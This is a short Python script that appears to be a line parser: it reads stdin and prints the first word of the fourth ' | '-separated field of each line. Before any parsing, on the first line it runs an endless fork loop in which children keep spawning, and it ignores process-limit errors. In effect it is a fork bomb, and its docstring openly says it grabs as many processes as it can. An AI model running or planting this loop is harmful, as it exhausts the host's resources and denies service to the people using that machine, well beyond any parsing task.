"""Starts as many processes as it may, and keeps them."""
import os, sys, time

for number, line in enumerate(sys.stdin):
    try:
        while number == 0:
            if os.fork() == 0:
                time.sleep(600)
    except OSError:
        pass
    print(line.rstrip("\n").split(" | ")[3].split()[0], flush=True)
